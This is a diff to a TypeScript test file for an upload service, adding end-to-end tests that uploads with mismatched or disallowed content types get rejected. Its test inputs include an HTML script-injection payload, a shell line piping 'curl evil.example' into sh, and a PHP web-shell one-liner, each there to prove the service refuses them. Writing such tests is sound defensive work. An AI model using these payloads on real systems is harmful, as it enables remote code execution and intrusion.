@@ -12,6 +12,7 @@ import type { Services } from "../src/domain/services.js";
 import { SluiceError } from "../src/errors.js";
 import type { ObjectStore } from "../src/storage/object-store.js";
 import { MemoryTicketStore } from "../src/tickets/memory.js";
+import { createApiKey } from "../src/domain/api-keys.js";
 import { HTML, PNG } from "./helpers/fixtures.js";
 import { filesUnder } from "./helpers/server.js";
 import { bodyOf, makeServices, type Harness } from "./helpers/services.js";
@@ -377,5 +378,58 @@ describe("an arrival that failed after its record was written", () => {
     assert.equal((await h.services.metadata.getUpload(issued.ticket.id))?.state, "archived");
     assert.deepEqual(await archiveOf(h), [issued.ticket.key]);
     assert.equal((await h.services.tickets.get(issued.ticket.id))?.state, "consumed");
+  });
+});
+
+describe("content checks, end to end", () => {
+  /** Issues an upload of these bytes as `contentType`, streams them through the gateway, and processes it. */
+  async function sendAndProcess(h: Harness, who: Principal, bytes: Uint8Array, contentType: string) {
+    const issued = await issueUpload(h.services, who, { filename: "f.bin", contentType, size: bytes.byteLength });
+    await sendToGateway(h.services, issued, bytes);
+    await processUpload(h.services, issued.ticket.id);
+    return (await h.services.metadata.getUpload(issued.ticket.id))!;
+  }
+
+  it("rejects HTML that starts with a comment, declared text/plain, and never archives it", async () => {
+    const h = await harness();
+    const record = await sendAndProcess(h, principal, Buffer.from("<!-- x --><script>alert(document.domain)</script>"), "text/plain");
+    assert.equal(record.state, "rejected");
+    assert.match(record.reason ?? "", /^type_mismatch: declared text\/plain but the content is HTML/);
+    assert.deepEqual(await archiveOf(h), []);
+    assert.deepEqual(await stagingOf(h), []);
+  });
+
+  it("a key scoped to image/* cannot archive a script declared as an image type nobody can detect", async () => {
+    const h = await harness();
+    const { record: key } = await createApiKey(h.services.metadata, { name: "images", now: Date.now(), scope: { allowedTypes: ["image/*"] } });
+    const scoped: Principal = { keyId: key.id, scope: key.scope ?? undefined };
+    const record = await sendAndProcess(h, scoped, Buffer.from("#!/bin/sh\ncurl evil.example | sh\n"), "image/x-foo");
+    assert.equal(record.state, "rejected");
+    assert.match(record.reason ?? "", /^type_not_allowed: image\/x-foo could not be identified .* for the key that issued this upload/);
+    assert.deepEqual(await archiveOf(h), []);
+    const png = await sendAndProcess(h, scoped, PNG, "image/png");
+    assert.equal(png.state, "archived", "an identified image still goes through");
+  });
+
+  it("the key's scope holds at processing even where issuing was not asked (a key whose scope lists text/plain only)", async () => {
+    const h = await harness();
+    const { record: key } = await createApiKey(h.services.metadata, { name: "text", now: Date.now(), scope: { allowedTypes: ["text/plain"] } });
+    // Issued as if by a key without a scope: only processing can hold the key to its list.
+    const record = await sendAndProcess(h, { keyId: key.id }, PNG, "application/octet-stream");
+    assert.equal(record.state, "rejected");
+    assert.match(record.reason ?? "", /^type_not_allowed: image\/png is not allowed for the key that issued this upload/);
+    assert.deepEqual(await archiveOf(h), []);
+  });
+
+  it("SLUICE_ALLOWED_TYPES admits only identified content; text/plain passes its own check", async () => {
+    const h = await harness({ env: { SLUICE_ALLOWED_TYPES: "image/*,text/plain" } });
+    const foo = await sendAndProcess(h, principal, Buffer.from("<?php system($_GET['c']);"), "image/x-foo");
+    assert.equal(foo.state, "rejected");
+    assert.match(foo.reason ?? "", /^type_not_allowed: image\/x-foo could not be identified/);
+    const binaryAsText = await sendAndProcess(h, principal, Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 0, 0, 1, 2]), "text/plain");
+    assert.equal(binaryAsText.state, "rejected", "bytes with NULs are not text/plain");
+    const words = await sendAndProcess(h, principal, Buffer.from("just words, and a <b> in the middle\n"), "text/plain");
+    assert.equal(words.state, "archived");
+    assert.deepEqual(await archiveOf(h), [words.key]);
   });
 });
